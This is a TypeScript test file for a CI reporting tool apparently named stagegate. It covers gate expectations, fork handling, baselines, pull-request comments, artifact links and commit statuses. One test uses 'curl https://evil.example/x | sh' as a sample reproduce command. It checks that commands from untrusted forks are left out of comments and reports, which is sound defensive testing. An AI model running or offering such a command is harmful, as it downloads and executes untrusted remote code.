import type { CheckRuns, CommitStatus, Host, Posted } from "@stagegate/core";
import type { BaselineRecord, GateReport } from "@stagegate/schema";
import { describe, expect, it } from "vitest";
import { expected, put, read, report, RUN, run, write } from "../../test-support/comment-report.ts";

const ABLE = { able: true } as const;
const NO = { able: false, reason: "not here" } as const;
const CAPABILITIES: Host["capabilities"] = {
  comments: ABLE,
  commitStatus: NO,
  checkRuns: NO,
  deployments: NO,
  artifacts: NO,
  annotations: NO,
};
const SUBJECT = report("run-e2e").subject;
const FORGE_RUN = { ...RUN, forge: "github" as const, url: "https://forge.example/runs/1" };

describe("gates that are expected on a forge", () => {
  const CONFIG = "version: 1\nproject: shop\nservices:\n  cart: {}\nrun-e2e: {}\ncheck-slo: {}\n";
  const host = { info: { run: FORGE_RUN, subject: SUBJECT, event: "push" } } as Partial<Host>;

  it("are those of the configuration: a job that never ran has registered nothing", async () => {
    await write("stagegate.yml", CONFIG);
    await put(report("run-e2e", { run: FORGE_RUN }));
    const ran = await run({}, { host });
    expect(ran.exitCode).toBe(5);
    expect(ran.report.checks.map(({ title, verdict }) => [title, verdict])).toEqual([
      ["check-slo", "inconclusive"],
      ["run-e2e", "pass"],
    ]);
    expect((await run({ gates: ["run-e2e"] }, { host })).exitCode).toBe(0);
    await write("stagegate.yml", `${CONFIG}comment-report: { gates: [run-e2e] }\n`);
    expect((await run({}, { host })).exitCode).toBe(0);
  });

  it("are what a combined run was asked for, where there was one", async () => {
    await write("stagegate.yml", CONFIG);
    await put(report("run-e2e", { run: FORGE_RUN }));
    await expected("run-e2e", { run: FORGE_RUN });
    await expected("comment-report", { run: FORGE_RUN, startedAt: undefined });
    expect((await run({}, { host })).exitCode).toBe(0);
    await expected("comment-report", { run: { ...FORGE_RUN, id: "old" }, startedAt: undefined });
    expect((await run({}, { host })).exitCode).toBe(5);
  });

  it("are all of them where the combined run was in another job, and ran some", async () => {
    await write("stagegate.yml", CONFIG);
    const other = { ...FORGE_RUN, job: "gates" };
    await put(report("run-e2e", { run: other }));
    await expected("run-e2e", { run: other });
    await expected("comment-report", { run: other, startedAt: undefined });
    const info = { run: { ...FORGE_RUN, job: "stagegate" }, subject: SUBJECT, event: "push" };
    const ran = await run({}, { host: { info } as Partial<Host> });
    expect(ran.exitCode).toBe(5);
    expect(ran.report.checks.map(({ title }) => title)).toEqual(["check-slo", "run-e2e"]);
  });

  it("are not guessed on a laptop, where people run what they want", async () => {
    await write("stagegate.yml", CONFIG);
    await put(report("run-e2e"));
    expect((await run()).exitCode).toBe(0);
  });
});

describe("a run that posts for another one", () => {
  const source = { id: "77", attempt: 2 };
  const info = {
    run: { ...FORGE_RUN, id: "900" },
    subject: { ...SUBJECT, ref: "main" },
    event: "change-request",
    source,
  } as Host["info"];

  it("takes the reports of that run and of no other, and says so", async () => {
    await put(report("run-e2e", { run: { ...FORGE_RUN, ...source } }));
    await put(report("check-slo", { run: { ...FORGE_RUN, id: "900" } }));
    const ran = await run({}, { host: { info } });
    expect(ran.exitCode).toBe(0);
    expect(ran.report.checks.map(({ title }) => title)).toEqual(["run-e2e"]);
    expect(ran.report.notes.join("\n")).toContain("was taken from run 77");
    expect(ran.comments[0]?.revision).toMatchObject({ run: "77", attempt: 2 });
  });

  it.each<[string, boolean | undefined, boolean]>([
    ["a fork are left out", true, false],
    ["nobody knows whom are left out", undefined, false],
    ["the repository itself stay", false, true],
  ])("has commands to copy: those of %s", async (_whose, fork, shown) => {
    const reproduce = "curl https://evil.example/x | sh";
    const accept = "verify-contracts:\n  accepted:\n    - fingerprint: f00";
    const checks = [{ id: "e2e:a", title: "a", verdict: "fail" as const, reproduce }];
    const counts = { ...report("run-e2e").counts, total: 1, fail: 1 };
    const of = { run: { ...FORGE_RUN, ...source }, verdict: "fail" as const, counts };
    await put(report("run-e2e", { ...of, checks }));
    const accepted = checks.map((check) => ({ ...check, id: "contract:b", accept }));
    await put(report("verify-contracts", { ...of, checks: accepted }));
    const change = fork === undefined ? {} : { change: { fork, draft: false, bot: false } };
    const ran = await run({}, { host: { info: { ...info, ...change } } });
    const texts = [ran.comments[0]?.body, ran.summary, await read("report.html")];
    for (const text of texts) {
      expect(text?.includes("evil.example")).toBe(shown);
      expect(text?.includes("f00")).toBe(shown);
    }
    expect(ran.report.notes.join("\n").includes("Commands to copy are left out")).toBe(!shown);
  });

  it("is never history, whatever the branch of the fork is called", async () => {
    await put(report("run-e2e", { run: { ...FORGE_RUN, ...source } }));
    const baselines = {
      list: async () => ({ records: [], notes: [] }),
      put: async (): Promise<Posted> => Promise.reject(new Error("was stored")),
    };
    const ran = await run({ record: "true" }, { host: { info, baselines } });
    expect(ran.report.notes.join("\n")).toContain("not stored as history: this is a change");
    expect(ran.report.notes.join("\n")).not.toContain("was stored");
  });
});

it("stores the legs of a gate apart", async () => {
  await put(report("run-e2e", { key: "linux" }), "run-e2e.linux");
  await put(report("run-e2e", { key: "windows", verdict: "fail", exitCode: 4, blocking: true }));
  const kept: BaselineRecord[] = [];
  const baselines = {
    list: async () => ({ records: [], notes: [] }),
    put: async (record: BaselineRecord): Promise<Posted> => {
      kept.push(record);
      return { kind: "posted", action: "created" };
    },
  };
  const info = { run: RUN, subject: { ...SUBJECT, ref: "main" }, event: "push" } as Host["info"];
  await run({}, { host: { info, baselines } });
  expect(kept[0]?.gates.map(({ key, verdict }) => [key, verdict])).toEqual([
    ["windows", "fail"],
    ["linux", "pass"],
  ]);
  expect(kept[0]?.tables?.map(({ key }) => key)).toEqual(["linux", "windows"]);
});

describe("the comment", () => {
  it("is one for all keys, with a section of each that is called by its key", async () => {
    await put(report("run-e2e"));
    const [plain] = (await run({ title: "Shop" })).comments;
    const [keyed] = (await run({ title: "Shop", key: "nightly" })).comments;
    const [bare] = (await run({ key: "nightly" })).comments;
    expect([plain?.marker, keyed?.marker]).toEqual(["stagegate", "stagegate"]);
    expect([plain?.key, keyed?.key]).toEqual([undefined, "nightly"]);
    const titles = [plain, keyed, bare].map((one) => one?.body.split("\n", 1)[0]);
    expect(titles).toEqual([
      expect.stringMatching(/ Shop: /),
      expect.stringMatching(/ Shop \(nightly\): /),
      expect.stringMatching(/ nightly: /),
    ]);
  });

  it("is silent when all is green, if that is wanted, by input or configuration", async () => {
    const silent = async (verdict: GateReport["verdict"], inputs = {}): Promise<unknown> => {
      await put(report("run-e2e", { verdict }));
      return (await run(inputs)).comments[0]?.silent;
    };
    expect(await silent("pass")).toBe(false);
    const wanted = { "silent-when-green": "true" };
    expect(await silent("pass", wanted)).toBe(true);
    expect(await silent("warn", wanted)).toBe(false);
    expect(await silent("fail", wanted)).toBe(false);
    await write(
      "stagegate.yml",
      "version: 1\nproject: shop\nservices: { cart: {} }\ncomment-report: { silent-when-green: true }\n",
    );
    expect(await silent("pass")).toBe(true);
    expect(await silent("pass", { "silent-when-green": "false" })).toBe(false);
  });

  it("links the page that the forge keeps, as does the summary", async () => {
    await put(report("run-e2e"));
    const uploads: [string, string][] = [];
    const artifacts = {
      upload: async (name: string, folder: string): Promise<Posted> => {
        uploads.push([name, folder]);
        return { kind: "posted", action: "created", url: "https://forge.example/artifacts/9" };
      },
      download: async () => ({ artifacts: [], notes: [] }),
    };
    const host = { artifacts, capabilities: { ...CAPABILITIES, artifacts: ABLE } };
    const ran = await run({}, { host });
    expect(ran.comments[0]?.body).toContain("https://forge.example/artifacts/9");
    expect(ran.summary).toContain("https://forge.example/artifacts/9");
    expect(uploads.map(([name]) => name)).toEqual(["stagegate-report-1"]);
    expect((await run({ artifacts: "never" }, { host })).report.notes).toEqual([]);
    expect(uploads).toHaveLength(1);
  });

  it("links a page that the forge keeps without being asked", async () => {
    await put(report("run-e2e"));
    const nowhere = {
      kind: "nowhere",
      reason: "by keyword",
      url: "https://forge.example/9",
    } as const;
    const artifacts = {
      upload: async (): Promise<Posted> => nowhere,
      download: async () => ({ artifacts: [], notes: [] }),
    };
    const ran = await run({}, { host: { artifacts, capabilities: CAPABILITIES } });
    expect(ran.comments[0]?.body).toContain("https://forge.example/9");
    expect(ran.report.notes).toEqual([]);
  });

  it("says once why the page is not kept, and nothing where nobody would keep it", async () => {
    await put(report("run-e2e"));
    const answer = (posted: Posted) => ({
      host: {
        capabilities: CAPABILITIES,
        artifacts: {
          upload: async () => posted,
          download: async () => ({ artifacts: [], notes: [] }),
        },
      },
    });
    const refused = { kind: "unavailable", reason: "no artifacts here", hint: "Use v3" } as const;
    expect((await run({}, answer(refused))).report.notes).toEqual([
      "The page is not kept by the forge: no artifacts here. Use v3",
    ]);
    expect((await run({}, answer({ kind: "nowhere", reason: "x" }))).report.notes).toEqual([]);
  });
});

describe("status and check run", () => {
  type Status = Parameters<CommitStatus["set"]>[0];
  type Check = Parameters<CheckRuns["publish"]>[0];
  const posted: Posted = { kind: "posted", action: "created" };

  function forge(answer: Posted = posted) {
    const statuses: Status[] = [];
    const checks: Check[] = [];
    const host: Partial<Host> = {
      info: { run: FORGE_RUN, subject: SUBJECT, event: "push" },
      status: {
        async set(status) {
          statuses.push(status);
          return answer;
        },
      },
      checkRuns: {
        maxTextLength: 65_535,
        async publish(check) {
          checks.push(check);
          return answer;
        },
      },
    };
    return { host, statuses, checks };
  }

  it("mark lines of this change only, the worst first, and no more than people read", async () => {
    const at = (line: number) => ({ location: { file: "a.ts", line } });
    const finding = { id: "e2e:/a#0", title: "old", verdict: "fail" as const };
    const many = Array.from({ length: 150 }, (_, n) => ({
      ...finding,
      id: `e2e:/a#${n + 9}`,
      title: `w${n}`,
      verdict: "warn" as const,
      ...at(n + 9),
    }));
    const checks = [
      ...many,
      { ...finding, class: "known" as const, ...at(1) },
      { ...finding, class: "flaky" as const, ...at(2) },
      { ...finding, id: "e2e:/a#1", title: "nowhere" },
      { ...finding, id: "e2e:/a#2", title: "mine", class: "new" as const, ...at(3) },
    ];
    const counts = { ...report("run-e2e").counts, total: checks.length, fail: 4, warn: 150 };
    await put(report("run-e2e", { run: FORGE_RUN, verdict: "fail", checks, counts }));
    const { host, checks: published } = forge();
    await run({ "check-run": "true" }, { host });
    const marks = published[0]?.annotations ?? [];
    expect(marks).toHaveLength(100);
    expect(marks[0]?.title).toBe("run-e2e: mine");
    expect(marks.slice(1).every(({ level }) => level === "warning")).toBe(true);
  });

  it("are not written unless asked for", async () => {
    await put(report("run-e2e", { run: FORGE_RUN }));
    const { host, statuses, checks } = forge();
    await run({}, { host });
    expect([statuses, checks]).toEqual([[], []]);
  });

  it("are not written for reports that strangers may have made up", async () => {
    await put(report("run-e2e", { run: FORGE_RUN }));
    const { host, statuses, checks } = forge();
    const info = { run: FORGE_RUN, subject: SUBJECT, event: "push", source: FORGE_RUN } as const;
    const ran = await run(
      { status: "true", "check-run": "true" },
      { host: { ...host, info } as Partial<Host> },
    );
    expect([statuses, checks]).toEqual([[], []]);
    expect(ran.report.notes.join()).toContain("strangers");
  });

  it("say what the exit code says, with a link", async () => {
    const location = { file: "cart/api.yaml", line: 3 };
    const finding = { id: "api:x", title: "field is gone", verdict: "fail" as const, location };
    const counts = { ...report("run-e2e").counts, total: 1, fail: 1 };
    const red = { verdict: "fail" as const, run: FORGE_RUN, checks: [finding], counts };
    await put(report("verify-contracts", red));
    const { host, statuses, checks } = forge();
    await run({ status: "true", "check-run": "true", key: "nightly" }, { host });
    const link = { url: "https://forge.example/runs/1" };
    expect(statuses).toEqual([
      {
        state: "failure",
        context: "stagegate-nightly",
        description: expect.stringContaining("The gate failed"),
        ...link,
      },
    ]);
    expect(checks).toMatchObject([
      { name: "stagegate-nightly", conclusion: "failure", annotations: [{ location }], ...link },
    ]);
    await run({ status: "true", enforcement: "observe" }, { host });
    expect(statuses.at(-1)?.state).toBe("success");
  });

  it("are asked for by the configuration too, and one note each tells a missing right", async () => {
    const blocks = "run-e2e: {}\ncomment-report: { status: true, check-run: true }\n";
    await write("stagegate.yml", `version: 1\nproject: shop\nservices: { cart: {} }\n${blocks}`);
    await put(report("run-e2e", { run: FORGE_RUN }));
    const { host } = forge({ kind: "unavailable", reason: "no right", hint: "checks: write" });
    const ran = await run({}, { host });
    expect(ran.exitCode).toBe(0);
    expect(ran.report.notes).toEqual([
      "There is no status: no right. checks: write",
      "There is no check run: no right. checks: write",
    ]);
    const off = await run({ status: "false", "check-run": "false" }, { host });
    expect(off.report.notes).toEqual([]);
  });
});
